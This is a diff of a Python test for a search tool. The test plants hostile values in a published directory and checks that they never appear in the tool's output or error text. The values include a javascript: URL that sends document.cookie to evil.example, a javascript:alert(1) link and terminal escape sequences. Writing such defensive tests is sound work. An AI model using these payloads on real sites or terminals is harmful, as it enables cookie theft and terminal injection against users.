@@ -443,8 +443,15 @@ def test_a_published_aggregate_with_a_hostile_origin_answers_without_it(
             line["origin"][0]["page_url"] = "javascript:fetch('//evil.example/'+document.cookie)"
             lines[i] = orjson.dumps(line)
     ndjson.write_bytes(b"\n".join(lines) + b"\n")
+    # What the aggregate says about its members is set aside, never read or relayed.
+    settings = site / "api" / "v1" / "directory.json"
+    published = orjson.loads(settings.read_bytes())
+    published["members"] = [{"id": "\x1b[2J", "url": "javascript:alert(1)", "evil": True}]
+    published["attribution"], published["share_alike"] = "\x1b]0;pwned\x07", "yes"
+    settings.write_bytes(orjson.dumps(published))
     code, out, err = run("search", "Brot", "--source", str(site), "--format", "json")
-    assert code == 0
+    assert code == 0, err
     assert MERGED not in [r["id"] for r in json.loads(out)["results"]]
+    assert "holzofebeck" not in out  # the tampered line is its only record
     assert f"({MERGED}): origin: source 0: page_url is not a web address" in err
-    assert "javascript" not in out
+    assert "javascript" not in out + err and "\x1b" not in out + err
